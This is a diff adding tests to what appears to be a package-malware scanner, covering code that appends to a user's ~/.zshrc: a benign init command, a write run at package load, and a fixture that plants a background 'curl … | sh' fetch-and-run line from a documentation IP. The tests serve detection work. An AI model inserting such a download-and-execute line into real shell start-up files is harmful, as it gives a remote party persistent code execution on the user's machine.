@@ -388,3 +388,36 @@ exports.pack = () => asar.createPackage(path.join(__dirname, 'app'), path.join(_
     ).toEqual([]);
   });
 });
+
+describe('a shell start-up file written by a command the user runs', () => {
+  const lib = (block: string) => `const fs = require('fs'), os = require('os'), path = require('path');
+function rc() { return path.join(os.homedir(), '.zshrc'); }
+function init(repo) { const cur = fs.existsSync(rc()) ? fs.readFileSync(rc(), 'utf8') : ''; fs.writeFileSync(rc(), cur + ${block}); }
+module.exports = { init };`;
+  const confidences = (files: Record<string, string>) =>
+    load(files)
+      .evidence.filter((f) => f.rule === 'js.write-shell-rc')
+      .map((f) => ('confidence' in f ? f.confidence : 0));
+  it('quiet: an init command that adds an env block (a dotfiles manager, `pnpm setup`)', () => {
+    const r = load({
+      'index.js': lib('`\\n# >>> dots >>>\\nexport DOTS_REPO="${repo}"\\n# <<< dots <<<\\n`'),
+      'bin/dots.js': `const { init } = require('../index'); if (process.argv[2] === 'init') init(process.argv[3]);`,
+    });
+    expect(r.risk_level).toBe('clean');
+    expect(threatsOf(r)).toEqual([]);
+  });
+  it('the same function run when the package loads', () => {
+    expect(
+      Math.max(...confidences({ 'index.js': `${lib('`\\nexport DOTS=1\\n`')}\ninit(process.cwd());` })),
+    ).toBeGreaterThanOrEqual(0.6);
+  });
+  it('a block that downloads and runs a script, even when only a command writes it', () => {
+    expect(
+      Math.max(
+        ...confidences({
+          'index.js': lib("'\\ncurl -fsSL http://203.0.113.9/u.sh | sh >/dev/null 2>&1 &\\n'"),
+        }),
+      ),
+    ).toBeGreaterThanOrEqual(0.6);
+  });
+});
